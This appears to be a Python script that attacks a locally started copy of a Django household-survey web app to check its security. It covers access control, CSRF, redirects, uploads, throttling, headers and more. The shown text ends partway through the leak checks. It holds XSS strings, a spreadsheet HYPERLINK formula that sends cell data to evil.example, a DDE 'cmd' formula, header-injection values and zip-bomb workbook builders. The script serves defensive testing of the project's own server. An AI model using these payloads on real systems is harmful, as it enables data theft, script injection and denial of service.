#!/usr/bin/env python
"""Attack tour: the attacks the security issue asks about, tried against a production-like running server.

What it does
  1. Set-up: a fresh PostgreSQL database ``attack_tour_<random>`` (``createdb -h 127.0.0.1 -U postgres``),
     ``migrate``, ``load_demo`` (random password for the demo logins), then the tour's own users, API tokens,
     an import job and a finished report job (``manage.py shell``, through ``accounts.services.user_create``),
     and the objects each role may and may not see, found with ``households.selectors.visible_unit_ids``. The
     demo registers no citizen ID: the province officer gives the heads of four households of other communes one
     (``household_update``), and a tour chair returns one submitted review so that the meeting step (minutes
     upload) can be tried.
  2. Serves it as production does: gunicorn with 2 workers, ``DEBUG=0``, a random ``SECRET_KEY``,
     ``ALLOWED_HOSTS=127.0.0.1,localhost``, ``SECURE_SSL_REDIRECT=1``, ``TRUSTED_PROXIES=127.0.0.1`` (the tour
     plays the TLS proxy: every request carries ``X-Forwarded-Proto: https`` and ``X-Forwarded-For``), static
     files collected (``collectstatic``), uploads in a temporary ``MEDIA_ROOT``. For the run only:
     ``SESSION_IDLE_MINUTES=2``, ``CCCD_FOREIGN_LOOKUPS_PER_DAY=3``, ``API_THROTTLE_RATE=120/minute``. The one
     setting changed beside the environment is ``STATIC_ROOT`` (a temporary folder, through a settings module
     written in the temporary folder that imports ``povertyplan.settings.base``).
  3. Tries the attacks over HTTP (``requests``; ``http.client`` where a path must go out unnormalised), each a row:
     anonymous access, reads outside the area, role escalation, CSRF, open redirects, stored and reflected XSS,
     formula injection in CSV/XLSX, out-of-range query strings, deep and oversize JSON, hostile uploads, the
     citizen-ID oracle, login lockout and X-Forwarded-For, tokens of locked-out users, the shared API throttle,
     session lifetime, caching and download headers, security headers, error pages, /admin/, the API
     schema and docs, methods, path traversal, the Host header.
  4. Prints the table (id, category, what was sent, expected, observed, PASS/FAIL/N/A, severity of a FAIL),
     the evidence of every FAIL, and a summary; the exit status is 1 when a defect of medium severity or more
     is left. Severity: high = personal data readable by anyone or data of another area changeable; medium =
     data of another area readable, a 500 reachable by a signed-in user, an account lockable by someone else,
     stored XSS, formula injection, a brute-force limit that can be dodged; low = the rest.

Run (from the project folder; PostgreSQL on 127.0.0.1:5432 as ``postgres``):
    .venv/bin/python scripts/attack_tour.py                 # everything, then drops the database
    .venv/bin/python scripts/attack_tour.py --keep          # keep the database and temporary folder
    .venv/bin/python scripts/attack_tour.py --database NAME # reuse a database a --keep run left (no set-up)
    .venv/bin/python scripts/attack_tour.py --json FILE     # also write the rows as JSON

Takes about 7 minutes on the 2-core development machine (December 2026): migrate and the demo load 4½,
collectstatic ½, the attacks 2 (about 830 requests; the 2-minute wait for the idle session to expire runs beside
the other attacks). It cleans up after itself: the gunicorn server it started, the database it created (unless
--keep or --database) and its temporary folder. ``--database`` reuses a kept database: set ``TOUR_PASSWORD`` to
the password the kept run printed.
"""

from __future__ import annotations

import argparse
import base64
import concurrent.futures
import csv
import datetime
import email.message
import http.client
import io
import json
import os
import re
import secrets
import shutil
import signal
import socket
import subprocess
import sys
import tempfile
import textwrap
import threading
import time
import traceback
import zipfile
from collections import Counter
from dataclasses import asdict, dataclass, field
from html.parser import HTMLParser
from pathlib import Path
from urllib.parse import quote, urlencode, urlsplit

import openpyxl
import requests
from requests.adapters import HTTPAdapter

ROOT = Path(__file__).resolve().parent.parent
PYTHON = ROOT / ".venv" / "bin" / "python"
PROXY = "127.0.0.1"  # the tour's requests come from here, the trusted proxy
UNTRUSTED_SOURCE = "127.0.0.5"  # a client that is not the proxy (its X-Forwarded-For must be ignored)
IDLE_MINUTES = 2
FOREIGN_LOOKUPS = 3
THROTTLE_PER_MINUTE = 120
EVIL = "https://evil.example"
XSS_NAME = '=HYPERLINK("https://evil.example/?d="&A1,"<script>alert(1)</script>")'
XSS_ADDRESS = "@SUM(1+1)*cmd|' /C calc'!A0 \"><img src=x onerror=alert(2)>"
SCRIPT_RAW = "<script>alert(1)</script>"
IMG_RAW = "<img src=x onerror=alert(2)>"
QUOTE_CODE = 'T"Q;filename=evil.html'
NEWLINE_CODE = "T\r\nX-Evil: 1"

SEVERITY_ORDER = {"high": 3, "medium": 2, "low": 1}


# --- results -------------------------------------------------------------------------------------------------


@dataclass
class Row:
    id: str
    category: str
    sent: str
    expected: str
    observed: str
    verdict: str  # PASS, FAIL or N/A (could not be tried)
    severity: str = ""  # of a FAIL
    evidence: str = ""


@dataclass
class Results:
    rows: list[Row] = field(default_factory=list)
    counter: Counter = field(default_factory=Counter)
    lock: threading.Lock = field(default_factory=threading.Lock)

    def add(self, category, sent, expected, observed, ok, severity, evidence="", na=False) -> Row:
        with self.lock:
            self.counter[category] += 1
            row = Row(
                id=f"{category}-{self.counter[category]:02d}",
                category=category,
                sent=sent,
                expected=expected,
                observed=observed,
                verdict="N/A" if na else ("PASS" if ok else "FAIL"),
                severity="" if ok or na else severity,
                evidence="" if ok and not na else evidence,
            )
            self.rows.append(row)
        mark = {"PASS": ".", "FAIL": "F", "N/A": "n"}[row.verdict]
        print(mark, end="", flush=True)
        return row


def describe(response: requests.Response, body: int = 300) -> str:
    """A short account of an answer for the evidence: status, the headers that matter, the start of the body."""
    if response is None:
        return "no answer"
    keep = ("Location", "Content-Type", "Content-Disposition", "Cache-Control", "Retry-After")
    headers = "; ".join(f"{k}: {response.headers[k]}" for k in keep if k in response.headers)
    text = (
        response.text[:body].replace("\n", " ")
        if "text" in response.headers.get("Content-Type", "") or ("json" in response.headers.get("Content-Type", ""))
        else f"<{len(response.content)} bytes>"
    )
    errors = (
        re.findall(r'<ul class="errorlist[^"]*"[^>]*>(.*?)</ul>', response.text, re.S)
        if "html" in (response.headers.get("Content-Type", ""))
        else []
    )
    if errors:
        text = "form errors: " + " | ".join(re.sub(r"<[^>]+>", " ", e).strip() for e in errors)[:600]
    return f"{response.status_code} [{headers}] {text}"


# --- HTTP ----------------------------------------------------------------------------------------------------


class ProxySession(requests.Session):
    """The TLS proxy is played here over plain HTTP: the Secure cookies the server sets must still go back to it
    (requests keeps them back from an http:// address), as the proxy would pass them on."""

    def request(self, *args, **kwargs):
        for cookie in self.cookies:
            cookie.secure = False
        return super().request(*args, **kwargs)


class SourceAddressAdapter(HTTPAdapter):
    def __init__(self, source: str, **kwargs):
        self.source = source
        super().__init__(**kwargs)

    def init_poolmanager(self, *args, **kwargs):
        kwargs["source_address"] = (self.source, 0)
        super().init_poolmanager(*args, **kwargs)


class Client:
    """One browser or API client behind the TLS proxy: a requests.Session with the proxy's headers."""

    def __init__(
        self,
        tour: Tour,
        name: str,
        *,
        client_ip: str,
        lang: str = "en",
        user: dict | None = None,
        token: str | None = None,
        source: str | None = None,
        forwarded: bool = True,
    ):
        self.tour, self.name, self.user, self.token = tour, name, user, token
        self.client_ip = client_ip
        self.session = ProxySession()
        if source:
            self.session.mount("http://", SourceAddressAdapter(source))
        self.session.headers.update({"Accept-Language": lang, "User-Agent": "attack-tour/1.0"})
        self.session.headers["Referer"] = f"https://{tour.host}/"
        if forwarded:
            self.session.headers.update({"X-Forwarded-Proto": "https", "X-Forwarded-For": client_ip})
        if token:
            self.session.headers["Authorization"] = f"Token {token}"
        self.signed_in_at = None
        self.last_request = 0.0
        self.auto_login = True

    def url(self, path: str) -> str:
        return f"{self.tour.base}{path}"

    def request(self, method: str, path: str, **kwargs) -> requests.Response:
        if self.user and self.auto_login and self.signed_in_at and time.monotonic() - self.last_request > 90:
            # The run's idle limit is 2 minutes: a role left alone for a while signs in again.
            self.login()
        kwargs.setdefault("allow_redirects", False)
        kwargs.setdefault("timeout", 180)
        response = self.session.request(method, self.url(path), **kwargs)
        self.last_request = time.monotonic()
        self.tour.seen(self, method, path, response)
        return response

    def get(self, path, **kwargs):
        return self.request("GET", path, **kwargs)

    def csrf(self) -> str:
        token = self.session.cookies.get("csrftoken")
        if not token:
            self.get("/accounts/login/" if not self.signed_in_at else "/")
            token = self.session.cookies.get("csrftoken") or ""
        return token

    def post(self, path, data=None, *, csrf=True, **kwargs):
        data = list(data.items()) if isinstance(data, dict) else list(data or [])
        if csrf:
            data.append(("csrfmiddlewaretoken", self.csrf()))
        return self.request("POST", path, data=data, **kwargs)

    def login(self, password: str | None = None, *, next_url: str | None = None) -> requests.Response:
        path = "/accounts/login/" + (f"?{urlencode({'next': next_url})}" if next_url is not None else "")
        self.session.cookies.clear()
        self.session.get(self.url(path), timeout=60, allow_redirects=False)
        token = self.session.cookies.get("csrftoken", "")
        data = {
            "username": self.user["username"],
            "password": password or self.user["password"],
            "csrfmiddlewaretoken": token,
        }
        if next_url is not None:
            data["next"] = next_url
        response = self.session.post(self.url(path), data=data, timeout=60, allow_redirects=False)
        self.last_request = time.monotonic()
        if response.status_code == 302 and "/accounts/login/" not in response.headers.get("Location", ""):
            self.signed_in_at = time.monotonic()
        return response


def raw_request(
    tour: Tour,
    method: str,
    path: str,
    headers: dict | None = None,
    body: bytes | None = None,
    source: str | None = None,
) -> tuple[int, dict, bytes]:
    """A request whose path goes out exactly as written (requests would normalise ``..``)."""
    connection = http.client.HTTPConnection(
        "127.0.0.1", tour.port, timeout=60, source_address=(source, 0) if source else None
    )
    try:
        connection.putrequest(method, path, skip_host=True, skip_accept_encoding=True)
        sent = {"Host": tour.host, "X-Forwarded-Proto": "https", "X-Forwarded-For": "203.0.113.99"}
        sent.update(headers or {})
        for name, value in sent.items():
            if value is not None:
                connection.putheader(name, value)
        if body is not None:
            connection.putheader("Content-Length", str(len(body)))
        connection.endheaders(body)
        answer = connection.getresponse()
        return answer.status, dict(answer.getheaders()), answer.read()
    finally:
        connection.close()


class FormFields(HTMLParser):
    """The fields of each form of a page, as a browser would send them (checked boxes, selected options)."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.forms: list[dict] = []
        self._form = None
        self._select = None
        self._textarea = None

    def handle_starttag(self, tag, attrs):
        a = dict(attrs)
        if tag == "form":
            self._form = {"action": a.get("action") or "", "fields": [], "options": {}}
            self.forms.append(self._form)
        elif self._form is None:
            return
        elif tag == "input":
            kind = (a.get("type") or "text").lower()
            if kind in ("submit", "button", "image", "reset", "file") or not a.get("name"):
                return
            if kind in ("checkbox", "radio") and "checked" not in a:
                return
            self._form["fields"].append(
                [a["name"], a.get("value", "on") if kind in ("checkbox", "radio") else a.get("value", "")]
            )
        elif tag == "select":
            self._select = {"name": a.get("name"), "multiple": "multiple" in a, "options": [], "selected": []}
        elif tag == "option" and self._select is not None:
            value = a.get("value", "")
            self._select["options"].append(value)
            if "selected" in a:
                self._select["selected"].append(value)
        elif tag == "textarea":
            self._textarea = [a.get("name"), ""]

    def handle_data(self, data):
        if self._textarea is not None:
            self._textarea[1] += data

    def handle_endtag(self, tag):
        if tag == "select" and self._select is not None:
            select = self._select
            chosen = select["selected"] or ([] if select["multiple"] else select["options"][:1])
            for value in chosen:
                if select["name"]:
                    self._form["fields"].append([select["name"], value])
            if select["name"]:
                self._form["options"][select["name"]] = select["options"]
            self._select = None
        elif tag == "textarea" and self._textarea is not None:
            if self._form is not None and self._textarea[0]:
                self._form["fields"].append([self._textarea[0], self._textarea[1].lstrip("\n")])
            self._textarea = None
        elif tag == "form":
            self._form = None


def form_with(html: str, field_name: str) -> list[list[str]] | None:
    parser = FormFields()
    parser.feed(html)
    for form in parser.forms:
        names = [name for name, _value in form["fields"]]
        if field_name in names:
            return [[n, v] for n, v in form["fields"] if n != "csrfmiddlewaretoken"]
    return None


def filled_form(html: str, field_name: str, values: dict[str, str]) -> list[list[str]] | None:
    """The form holding ``field_name`` as a careful user fills it: ``values`` typed in, and every choice left
    empty set to its first real option."""
    parser = FormFields()
    parser.feed(html)
    for form in parser.forms:
        if any(name == field_name for name, _value in form["fields"]):
            fields = [[n, v] for n, v in form["fields"] if n != "csrfmiddlewaretoken"]
            for name, options in form["options"].items():
                real = [o for o in options if o]
                if real and not field_value(fields, name):
                    set_field(fields, name, real[0])
            for name, value in values.items():
                set_field(fields, name, value)
            return fields
    return None


def set_field(fields: list[list[str]], name: str, value: str) -> None:
    for item in fields:
        if item[0] == name:
            item[1] = value
            return
    fields.append([name, value])


def field_value(fields: list[list[str]], name: str) -> str | None:
    return next((v for n, v in fields if n == name), None)


# --- workbooks ---------------------------------------------------------------------------------------------

CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/xl/workbook.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
    '<Override PartName="/xl/worksheets/sheet1.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>'
)
ROOT_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
    'officeDocument" Target="xl/workbook.xml"/></Relationships>'
)
WORKBOOK = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
    'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
    '<sheets><sheet name="Hộ gia đình" sheetId="1" r:id="rId1"/></sheets></workbook>'
)
WORKBOOK_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
    'worksheet" Target="worksheets/sheet1.xml"/></Relationships>'
)


def bomb_workbook(rows: int) -> bytes:
    """A real .xlsx whose one sheet ("Hộ gia đình") has ``rows`` rows: small compressed, huge to read."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("[Content_Types].xml", CONTENT_TYPES)
        archive.writestr("_rels/.rels", ROOT_RELS)
        archive.writestr("xl/workbook.xml", WORKBOOK)
        archive.writestr("xl/_rels/workbook.xml.rels", WORKBOOK_RELS)
        with archive.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as sheet:
            sheet.write(
                b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
                b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
            )
            chunk = []
            for number in range(1, rows + 1):
                chunk.append(f'<row r="{number}"><c r="A{number}" t="inlineStr"><is><t>x</t></is></c></row>')
                if len(chunk) == 10_000:
                    sheet.write("".join(chunk).encode())
                    chunk = []
            sheet.write("".join(chunk).encode())
            sheet.write(b"</sheetData></worksheet>")
    return buffer.getvalue()


def sparse_workbook() -> bytes:
    """Two cells, A1 and XFD100000: a 1 KB file that asks a dense reader for billions of cells."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", CONTENT_TYPES)
        archive.writestr("_rels/.rels", ROOT_RELS)
        archive.writestr("xl/workbook.xml", WORKBOOK)
        archive.writestr("xl/_rels/workbook.xml.rels", WORKBOOK_RELS)
        archive.writestr(
            "xl/worksheets/sheet1.xml",
            '<?xml version="1.0" encoding="UTF-8"?><worksheet '
            'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
            '<row r="1"><c r="A1"><v>1</v></c></row><row r="100000"><c r="XFD100000"><v>1</v></c></row>'
            "</sheetData></worksheet>",
        )
    return buffer.getvalue()


def import_workbook(template: bytes, households: list[list], members: list[list]) -> bytes:
    """The app's own import template (downloaded from the server) with the given rows under its two header rows."""
    workbook = openpyxl.load_workbook(io.BytesIO(template))
    for title, rows in (("Hộ gia đình", households), ("Thành viên", members)):
        sheet = workbook[title]
        for r, row in enumerate(rows, start=3):
            for c, value in enumerate(row, start=1):
                sheet.cell(row=r, column=c, value=value)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def xlsx_cells(content: bytes, needle: str) -> list[tuple[str, str, object]]:
    """(sheet!cell, data type, value) of the cells of a workbook whose text holds ``needle``."""
    workbook = openpyxl.load_workbook(io.BytesIO(content))
    found = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and needle in cell.value:
                    found.append((f"{sheet.title}!{cell.coordinate}", cell.data_type, cell.value))
    return found


def csv_cells(content: bytes, needle: str) -> list[str]:
    text = content.decode("utf-8-sig", errors="replace")
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row if needle in cell]


def disposition_filename(header: str) -> tuple[str | None, int]:
    """The file name a browser takes from a Content-Disposition header, and how many filename parameters it has
    (counted outside quoted strings, where a backslash escapes the next character)."""
    message = email.message.Message()
    message["Content-Disposition"] = header
    params, current, quoted, escaped = [], "", False, False
    for ch in header:
        if escaped:
            escaped = False
        elif ch == "\\" and quoted:
            escaped = True
        elif ch == '"':
            quoted = not quoted
        elif ch == ";" and not quoted:
            params.append(current)
            current = ""
            continue
        current += ch
    params.append(current)
    names = [p for p in params if re.match(r"\s*filename\*?\s*=", p)]
    return message.get_filename(), len(names)


# --- the tour ------------------------------------------------------------------------------------------------


class Tour:
    def __init__(self, args):
        self.args = args
        self.results = Results()
        self.tmp = Path(tempfile.mkdtemp(prefix="attack_tour_"))
        self.database = args.database or f"attack_tour_{secrets.token_hex(4)}"
        self.created_database = False
        self.password = "Tour-" + secrets.token_urlsafe(18)
        self.port = free_port()
        self.host = f"127.0.0.1:{self.port}"
        self.base = f"http://127.0.0.1:{self.port}"
        self.server = None
        self.server_errors = []  # (who, method, path, status, body) of every 5xx
        self.answers = 0
        self.world: dict = {}
        self.clients: dict[str, Client] = {}
        self.timings: dict[str, float] = {}
        self.seen_lock = threading.Lock()

    # --- environment ---

    def env(self) -> dict:
        env = dict(os.environ)
        for name in ("DEBUG", "REDIS_URL", "DJANGO_SETTINGS_MODULE"):
            env.pop(name, None)
        env.update(
            {
                "DEBUG": "0",
                "SECRET_KEY": self.secret_key,
                "DATABASE_URL": f"postgres://postgres@127.0.0.1:5432/{self.database}",
                "ALLOWED_HOSTS": "127.0.0.1,localhost",
                "SECURE_SSL_REDIRECT": "1",
                "TRUSTED_PROXIES": PROXY,
                "SESSION_IDLE_MINUTES": str(IDLE_MINUTES),
                "CCCD_FOREIGN_LOOKUPS_PER_DAY": str(FOREIGN_LOOKUPS),
                "API_THROTTLE_RATE": f"{THROTTLE_PER_MINUTE}/minute",
                "MEDIA_ROOT": str(self.tmp / "media"),
                "DJANGO_SETTINGS_MODULE": "attack_tour_settings",
                "PYTHONPATH": f"{self.tmp}{os.pathsep}{ROOT}",
                "TOUR_STATIC_ROOT": str(self.tmp / "static"),
                "TOUR_PASSWORD": self.password,
                "LOG_LEVEL": "WARNING",
            }
        )
        return env

    def manage(self, *arguments, stdin: str | None = None, timeout: int = 3600) -> str:
        command = ["nice", "-n", "10", str(PYTHON), "manage.py", *arguments]
        done = subprocess.run(
            command, cwd=ROOT, env=self.env(), input=stdin, capture_output=True, text=True, timeout=timeout
        )
        if done.returncode != 0:
            raise RuntimeError(f"manage.py {' '.join(arguments)} failed:\n{done.stdout[-3000:]}\n{done.stderr[-5000:]}")
        return done.stdout

    def shell(self, code: str, **values) -> dict:
        script = self.tmp / f"shell_{secrets.token_hex(3)}.py"
        script.write_text(f"VALUES = {json.dumps(values)!r}\n" + code)
        out = self.manage("shell", "-c", f"exec(open({str(script)!r}, encoding='utf-8').read())")
        marker = next((line for line in out.splitlines() if line.startswith("TOUR_JSON:")), None)
        if marker is None:
            raise RuntimeError(f"no answer from the shell:\n{out[-3000:]}")
        return json.loads(marker[len("TOUR_JSON:") :])

    def set_up(self):
        self.secret_key = secrets.token_urlsafe(50)
        (self.tmp / "attack_tour_settings.py").write_text(
            '"""The production settings with the static files collected in the tour\'s temporary folder."""\n'
            "import os\n\nfrom povertyplan.settings.base import *  # noqa: F403\n\n"
            'STATIC_ROOT = os.environ["TOUR_STATIC_ROOT"]\n'
        )
        (self.tmp / "media").mkdir()
        started = time.monotonic()
        if not self.args.database:
            step("createdb " + self.database)
            subprocess.run(["createdb", "-h", "127.0.0.1", "-U", "postgres", self.database], check=True)
            self.created_database = True
            step("migrate")
            self.manage("migrate", "--no-input", "-v", "0")
            step("load_demo (a few minutes)")
            self.manage(
                "load_demo",
                "--password",
                self.password,
                *(["--scale", str(self.args.scale)] if self.args.scale else []),
            )
        else:
            step(f"reusing database {self.database} (demo password from TOUR_PASSWORD)")
            self.password = os.environ.get("TOUR_PASSWORD", "povertyplan-demo")
        self.timings["load"] = time.monotonic() - started
        step("tour users, tokens and jobs")
        self.world = self.shell(SETUP_CODE)
        step("collectstatic")
        self.manage("collectstatic", "--no-input", "-v", "0")
        step("check --deploy")
        done = subprocess.run(
            [str(PYTHON), "manage.py", "check", "--deploy"], cwd=ROOT, env=self.env(), capture_output=True, text=True
        )
        self.deploy_check = (done.returncode, (done.stdout + done.stderr).strip())

    def serve(self):
        step(f"gunicorn, 2 workers, on {self.host}")
        self.access_log = self.tmp / "access.log"
        self.error_log = self.tmp / "gunicorn.log"
        command = [
            str(PYTHON),
            "-m",
            "gunicorn",
            "povertyplan.wsgi",
            "-b",
            f"127.0.0.1:{self.port}",
            "--workers",
            "2",
            "--timeout",
            "180",
            "--access-logfile",
            str(self.access_log),
            "--error-logfile",
            str(self.error_log),
            "--access-logformat",
            '%(p)s %(h)s %(s)s "%(r)s"',
        ]
        self.server = subprocess.Popen(
            ["nice", "-n", "5", *command],
            cwd=ROOT,
            env=self.env(),
            stdout=subprocess.DEVNULL,
            stderr=subprocess.DEVNULL,
            start_new_session=True,
        )
        deadline = time.monotonic() + 90
        while time.monotonic() < deadline:
            try:
                answer = requests.get(
                    f"{self.base}/accounts/login/", timeout=5, headers={"X-Forwarded-Proto": "https", "Host": self.host}
                )
                if answer.status_code == 200:
                    return
            except requests.ConnectionError:
                pass
            if self.server.poll() is not None:
                break
            time.sleep(0.5)
        raise RuntimeError(f"gunicorn did not start:\n{self.error_log.read_text()[-3000:]}")

    def clean_up(self):
        if self.server is not None and self.server.poll() is None:
            os.kill(self.server.pid, signal.SIGTERM)  # the nice wrapper execs gunicorn: this is its master
            try:
                self.server.wait(timeout=30)
            except subprocess.TimeoutExpired:
                os.kill(self.server.pid, signal.SIGKILL)
                self.server.wait()
        if self.created_database and not self.args.keep:
            subprocess.run(
                ["dropdb", "-h", "127.0.0.1", "-U", "postgres", "--force", "--if-exists", self.database], check=False
            )
        if self.args.keep:
            print(f"kept: database {self.database}, folder {self.tmp} (TOUR_PASSWORD={self.password})")
        else:
            shutil.rmtree(self.tmp, ignore_errors=True)

    # --- bookkeeping ---

    def seen(self, client: Client, method: str, path: str, response: requests.Response):
        with self.seen_lock:
            self.answers += 1
            if response.status_code >= 500:
                self.server_errors.append((client.name, method, path, response.status_code, response.text[:2000]))

    def add(self, *args, **kwargs):
        return self.results.add(*args, **kwargs)

    def client(self, role: str, **kwargs) -> Client:
        """The signed-in client of a role (signed in once; again after a long pause)."""
        if role not in self.clients:
            user = self.world["users"][role]
            client = Client(self, role, client_ip=user["ip"], user={**user, "password": self.password}, **kwargs)
            answer = client.login()
            if client.signed_in_at is None:
                raise RuntimeError(f"{role} could not sign in: {describe(answer)}")
            self.clients[role] = client
        return self.clients[role]

    def api(self, role: str) -> Client:
        key = f"api:{role}"
        if key not in self.clients:
            user = self.world["users"][role]
            self.clients[key] = Client(self, key, client_ip=user["ip"], token=user["token"])
        return self.clients[key]

    def anonymous(self, lang="en", ip="203.0.113.200") -> Client:
        return Client(self, "anonymous", client_ip=ip, lang=lang)

    # --- checks used by many attacks ---

    def expect_status(
        self,
        category,
        client,
        method,
        path,
        expected: set[int],
        severity,
        *,
        sent=None,
        data=None,
        files=None,
        csrf=True,
        json_body=None,
        headers=None,
        also=None,
        expected_text=None,
    ):
        """Send, and compare the status with ``expected``; ``also(response) -> str | None`` adds a reason to fail."""
        try:
            if method == "POST" and json_body is None and client.user is not None:
                response = client.post(path, data or {}, csrf=csrf, files=files, headers=headers)
            else:
                response = client.request(method, path, data=data, files=files, json=json_body, headers=headers)
        except requests.RequestException as error:
            return self.add(
                category,
                sent or f"{method} {path} as {client.name}",
                expected_text or str(expected),
                f"no answer: {error}",
                False,
                severity,
                evidence=str(error),
            )
        problem = None if response.status_code in expected else f"status {response.status_code}"
        if problem is None and also is not None:
            problem = also(response)
        if response.status_code >= 500:
            severity = (
                max(severity, "medium", key=lambda s: SEVERITY_ORDER[s]) if client.user or client.token else severity
            )
        observed = f"{response.status_code}" + (f" ({problem})" if problem and not problem.startswith("status") else "")
        if response.status_code in (301, 302):
            observed += f" → {response.headers.get('Location', '')[:80]}"
        return self.add(
            category,
            sent or f"{method} {path} as {client.name}",
            expected_text or "/".join(str(s) for s in sorted(expected)),
            observed,
            problem is None,
            severity,
            evidence=f"{method} {path} as {client.name} → {describe(response)}",
        )

    # --- the attacks ------------------------------------------------------------------------------------------

    def run(self):
        started = time.monotonic()
        self.idle_start()
        self.keepalive = self.client("keepalive")
        self.ping_keepalive()
        groups = [
            self.anonymous_access,
            self.scope,
            self.list_leaks,
            self.escalation,
            self.csrf_attacks,
            self.open_redirects,
            self.xss_and_formulas,
            self.content_disposition,
            self.bounds,
            self.json_bodies,
            self.uploads,
            self.citizen_id_oracle,
            self.lockout,
            self.throttle,
            self.headers_and_caching,
            self.error_pages,
            self.admin_schema_tokens_methods,
            self.traversal_and_host,
            self.sessions,
        ]
        for group in groups:
            if self.args.only and group.__name__ not in self.args.only:
                continue
            try:
                group()
            except Exception as error:  # a broken attack is a row, not the end of the tour
                self.add(
                    "tour",
                    f"attack group {group.__name__}",
                    "runs",
                    f"crashed: {error!r}",
                    False,
                    "low",
                    evidence=traceback.format_exc()[-2000:],
                    na=True,
                )
        self.idle_finish()
        self.server_error_rows()
        self.timings["attacks"] = time.monotonic() - started

    def ping_keepalive(self):
        """A user who keeps working: a request every 30 s, from a thread, whatever the attacks take."""
        self.keepalive.auto_login = False
        if getattr(self, "pinger", None) is None:
            self.pinging = threading.Event()

            self.pings = []

            def ping():
                while not self.pinging.wait(30):
                    try:
                        answer = self.keepalive.get("/households/")
                        self.pings.append((round(time.monotonic() - self.keepalive.signed_in_at), answer.status_code))
                    except requests.RequestException as error:
                        self.pings.append((round(time.monotonic() - self.keepalive.signed_in_at), repr(error)))

            self.pinger = threading.Thread(target=ping, daemon=True)
            self.pinger.start()

    # 1. anonymous access -------------------------------------------------------------------------------------

    def anonymous_access(self):
        w = self.world
        anon = self.anonymous()
        for path in w["pages"]:

            def to_login(response):
                location = response.headers.get("Location", "")
                return None if location.startswith("/accounts/login/") else f"Location {location}"

            self.expect_status(
                "anon", anon, "GET", path, {302}, "high", also=to_login, expected_text="302 to /accounts/login/"
            )
        for path in w["api_paths"]:
            self.expect_status("anon", anon, "GET", path, {401, 403}, "high")
        self.expect_status(
            "anon",
            anon,
            "POST",
            "/api/v1/standards/2021-2025/classify/",
            {401, 403},
            "low",
            json_body={"year": 2024, "area": "rural", "income": 1, "deprived": []},
        )
        for path in ("/api/schema/", "/api/docs/", "/api/v1/"):
            self.expect_status("anon", anon, "GET", path, {401, 403}, "low")
        # The landing page is public but must not tell an anonymous visitor anything about an area.
        response = anon.get("/")
        leaked = [name for name in w["secret_words"] if name in response.text]
        self.add(
            "anon",
            "GET / anonymous",
            "200, no unit or household named",
            f"{response.status_code}, named: {leaked or 'none'}",
            response.status_code == 200 and not leaked,
            "medium",
            evidence=describe(response),
        )

    # 2. reads outside the area ------------------------------------------------------------------------------

    def scope(self):
        w = self.world
        for role, objects in w["scope"].items():
            client = self.api(role) if role == "api" else self.client(role)
            for label, path in objects["inside"]:
                # Controls: the role does see its own objects, so the 404s below are about the area.
                self.expect_status(
                    "scope", client, "GET", path, {200}, "low", sent=f"control: {role} GET own {label} {path}"
                )
            for label, method, path, *words in objects["outside"]:
                if words:
                    # A report's form answers a choice outside the area with a form error: no file, no data.
                    absent = words[0]

                    def nothing_of_it(response, absent=absent):
                        shown = [w for w in absent if w and w in response.text]
                        if response.headers.get("Content-Disposition") or shown:
                            return f"data shown: {shown or response.headers.get('Content-Disposition')}"
                        return None

                    self.expect_status(
                        "scope",
                        client,
                        method,
                        path,
                        {200, 404},
                        "medium",
                        also=nothing_of_it,
                        sent=f"{role} {method} {label} outside its area {path}",
                        expected_text="404, or the form with an error and none of the plan's data",
                    )
                    continue
                self.expect_status(
                    "scope",
                    client,
                    method,
                    path,
                    {404},
                    "medium",
                    sent=f"{role} {method} {label} outside its area {path}",
                )

    def list_leaks(self):
        w = self.world
        for role, objects in w["scope"].items():
            client = self.api(role) if role == "api" else self.client(role)
            outside = objects["outside_household"]
            for path in objects["lists"]:
                response = client.get(path)
                body = response.content.decode("utf-8-sig", errors="replace")
                # Not the search box or the links echoing the query: a row links to the household's page (HTML),
                # or holds its code (CSV, JSON).
                bare = re.sub(r'(value|href)="[^"]*"', "", body)
                kind = response.headers.get("Content-Type", "")
                if path.startswith("/dashboard/"):
                    # The dashboard names no household: it must not have taken the unit asked for.
                    leaked = f'value="{outside["commune"]}" selected' in body
                elif "html" in kind:
                    leaked = f'href="/households/{outside["pk"]}/"' in body or outside["code"] in bare
                elif "json" in kind:
                    leaked = f'"code":"{outside["code"]}"' in body.replace(" ", "")
                else:
                    leaked = outside["code"] in body
                ok = response.status_code in (200, 400, 404) and not leaked
                self.add(
                    "scope",
                    f"{role} GET {path} (filter on a unit outside the area)",
